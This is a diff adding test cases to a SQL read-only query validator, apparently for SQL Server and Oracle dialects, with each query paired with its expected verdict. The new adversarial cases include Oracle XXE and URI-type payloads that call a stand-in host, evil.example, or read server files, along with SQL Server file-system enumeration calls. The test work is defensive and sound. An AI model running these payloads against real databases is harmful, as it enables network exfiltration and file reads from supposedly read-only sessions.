@@ -201,6 +201,15 @@ const CASES: Record<Exclude<Dialect, 'sqlite'>, readonly (readonly [string, stri
     ['SELECT 1 GOTO l', 'ReadOnlyViolation'],
     ['SELECT 1 DISABLE TRIGGER tr ON t', 'ReadOnlyViolation'],
     ['SELECT 1 END CONVERSATION @h', 'ReadOnlyViolation'],
+    // Adversarial corpus ADV-G2: the other Service Broker statements, and file-system DMFs.
+    ["SELECT 1 SEND ON CONVERSATION @h (N'x')", 'ReadOnlyViolation'],
+    ['SELECT 1 RECEIVE TOP (1) * FROM q', 'ReadOnlyViolation'],
+    ['SELECT 1 MOVE CONVERSATION @h TO @g', 'ReadOnlyViolation'],
+    ['SELECT 1 GET CONVERSATION GROUP @g FROM q', 'ReadOnlyViolation'],
+    ["SELECT * FROM sys.dm_os_enumerate_filesystem('C:\\', '*')", 'ReadOnlyViolation'],
+    ["SELECT sys.dm_os_file_exists('C:\\x')", 'ReadOnlyViolation'],
+    ['SELECT send_date, received, [receive], t.receive, x AS receive, get_count FROM t', 'ok:select'],
+    ['SELECT * FROM sys.dm_os_volume_stats(1, 1)', 'ok:select'],
     // `$.` is a money literal, so DELETE after it is not a column: reserved words are never names.
     ['SELECT $. DELETE FROM t', 'ReadOnlyViolation'],
     ["SELECT $. WAITFOR DELAY '0:0:5'", 'ReadOnlyViolation'],
@@ -258,6 +267,21 @@ const CASES: Record<Exclude<Dialect, 'sqlite'>, readonly (readonly [string, stri
     ["SELECT dbms_metadata.get_ddl('TABLE', 'T'), dbms_assert.enquote_name('x') FROM dual", 'ok:select'],
     ["SELECT ctxsys.drithsx.sn(1, 'grant dba to x') FROM dual", 'ReadOnlyViolation'],
     ["SELECT SYS.KUPP$PROC.CREATE_MASTER_PROCESS('x') FROM dual", 'ReadOnlyViolation'],
+    // Adversarial corpus ADV-G1: URI types and XXE reach the network or files from a SELECT.
+    ["SELECT URIFACTORY.GETURI('http://evil.example/').GETCLOB() FROM dual", 'ReadOnlyViolation'],
+    ["SELECT XDBURITYPE('/public/secret.txt').GETCLOB() FROM dual", 'ReadOnlyViolation'],
+    ["SELECT DBURITYPE('/HR/EMPLOYEES').GETCLOB() FROM dual", 'ReadOnlyViolation'],
+    [
+      `SELECT EXTRACTVALUE(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>'), '/l') FROM dual`,
+      'ReadOnlyViolation',
+    ],
+    ["SELECT xmltype('<!doctype r []><r/>') FROM dual", 'ReadOnlyViolation'],
+    ["SELECT ORDSYS.ORD_DICOM.GETMAPPINGXPATH('x', 'y', 'z') FROM dual", 'ReadOnlyViolation'],
+    ["SELECT SYS.LT.FINDRICSET('x', 'y') FROM dual", 'ReadOnlyViolation'],
+    [
+      "SELECT EXTRACTVALUE(xmltype('<r><l>1</l></r>'), '/r/l'), 'doctype <!-- -->', uri_count FROM dual",
+      'ok:select',
+    ],
     // A function called through a database link runs remotely, outside the read-only session.
     ['SELECT app.do_write@remote(1) FROM dual', 'ReadOnlyViolation'],
     ['SELECT f@remote.example.com(1) FROM dual', 'ReadOnlyViolation'],
